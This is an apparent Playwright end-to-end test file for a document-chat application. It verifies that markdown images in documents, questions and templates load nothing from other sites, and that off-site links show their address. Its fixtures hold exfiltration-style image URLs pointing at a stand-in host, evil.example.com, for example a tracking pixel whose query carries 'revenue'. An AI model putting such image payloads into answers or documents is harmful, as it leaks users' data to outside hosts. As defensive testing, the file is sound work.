import { expect, type Page, test } from '@playwright/test'

import { apiSignIn, baseURL, createTeam, type TeamUser } from './support/api'
import { uploadProcessed } from './support/documents'
import { signInAs } from './support/fixtures'

// Issue 30: a document line, a question or a template that names an image on another site must not
// make the reader's browser fetch it (its address can carry the page's data out), and a link to
// another site shows where it leads.
const PIXEL = 'https://evil.example.com/pixel.png?c=revenue'
const INVESTORS = 'https://evil.example.com/investors'
const REPORT = {
  title: 'Harbor revenue report',
  name: 'revenue.txt',
  content:
    `The revenue chart ![t](${PIXEL}) of the Harbor marina, explained on [the investor site](${INVESTORS}), ` +
    'shows revenue of $5.2 million for 2024.\n',
}

/** Every request the page makes to a host other than this server's. */
function requestsElsewhere(page: Page) {
  const elsewhere: string[] = []
  page.on('request', (request) => {
    const url = new URL(request.url())
    if (/^(https?|wss?):$/.test(url.protocol) && url.host !== new URL(baseURL()).host) elsewhere.push(request.url())
  })
  return elsewhere
}

/** Opens a page (reloads this one), checking that its policy lets images come from this server and data: only. */
async function open(page: Page, path?: string) {
  const response = path ? await page.goto(path) : await page.reload()
  const policy = response!.headers()['content-security-policy'] ?? ''
  expect(policy.split(/;\s*/)).toContain("img-src 'self' data:")
}

const messages = (page: Page) => page.getByRole('list', { name: 'Messages' })

/** An off-site link as the page shows it: its words, its address, and nothing handed to the other site. */
async function expectOffSiteLink(page: Page, words: string, href: string) {
  const link = messages(page).locator(`a[href="${href}"]`).filter({ hasText: words }).last()
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow')
  await expect(link).toHaveAttribute('target', '_blank')
  await expect(link.locator('.link-address')).toHaveText(` (${href})`)
}

test.describe.configure({ mode: 'default' })

let member: TeamUser
let analyst: TeamUser
let organization: string

test.beforeAll(async () => {
  test.setTimeout(90_000)
  const team = await createTeam('Untrusted', ['analyst', 'member'])
  ;[analyst, member] = team.users as [TeamUser, TeamUser]
  organization = team.organization.slug
  await uploadProcessed(analyst, organization, [REPORT])
})

test.describe('untrusted markdown in a conversation', () => {
  test('a quoted document line and a question with images load nothing from another site', async ({
    page,
    javaScriptEnabled,
  }) => {
    // An answer on a machine busy with other tests can take a while.
    test.slow()
    const elsewhere = requestsElsewhere(page)
    await signInAs(page, member.username, member.password)
    await open(page, '/chat')
    await page.getByRole('navigation', { name: 'Conversations' }).getByRole('button', { name: 'New' }).click()
    await expect(page).toHaveURL(/\/chat\/\d+$/)

    const box = page.getByRole('textbox', { name: 'Message', exact: true })
    await box.fill('What does the revenue chart ![q](https://evil.example.com/question.png) of the Harbor marina show?')
    if (javaScriptEnabled) await box.press('Enter')
    else await page.getByRole('button', { name: 'Send' }).click()
    const answer = page.locator('.message-assistant').last()
    // The answer quotes the document's sentence as a quotation, with its citation.
    await expect(answer.locator('blockquote')).toContainText('shows revenue of $5.2 million for 2024.')
    await expect(answer.locator('blockquote').getByRole('link', { name: '[1]' })).toBeVisible()

    await open(page)
    await expect(answer.locator('blockquote')).toContainText('shows revenue of $5.2 million for 2024.')
    await expect(messages(page).locator('img')).toHaveCount(0)
    await expectOffSiteLink(page, 'Image: t', PIXEL)
    await expectOffSiteLink(page, 'the investor site', INVESTORS)
    await expectOffSiteLink(page, 'Image: q', 'https://evil.example.com/question.png')
    expect(elsewhere).toEqual([])
  })

  test("a template's plan with an image and a link loads nothing from another site", async ({ page }) => {
    // Two sign-ins, a template and a conversation: on a busy machine this takes most of 30 s.
    test.slow()
    const { access } = await apiSignIn(analyst.username, analyst.password)
    const response = await fetch(`${baseURL()}/api/conversation-templates/`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${access}`,
        'x-organization': organization,
        'content-type': 'application/json',
      },
      body: JSON.stringify({
        name: 'Valuation kickoff',
        phaseId: 'phase-2',
        description: `Bring the chart ![plan](${PIXEL}).`,
        sections: [
          {
            title: 'Numbers',
            timeAllocation: 10,
            suggestedScript: `Walk through [the figures](${INVESTORS}).`,
          },
        ],
      }),
    })
    expect(response.status, await response.clone().text()).toBe(201)
    const template = (await response.json()) as { id: string }

    const elsewhere = requestsElsewhere(page)
    await signInAs(page, member.username, member.password)
    await open(page, `/chat?template=${template.id}`)
    await page.getByRole('region', { name: 'Conversation' }).getByRole('button', { name: 'Start Conversation' }).click()
    await expect(page).toHaveURL(/\/chat\/\d+$/)
    await expect(messages(page)).toContainText('Valuation kickoff')
    await open(page)
    await expect(messages(page).locator('img')).toHaveCount(0)
    await expectOffSiteLink(page, 'Image: plan', PIXEL)
    await expectOffSiteLink(page, 'the figures', INVESTORS)
    expect(elsewhere).toEqual([])
  })
})
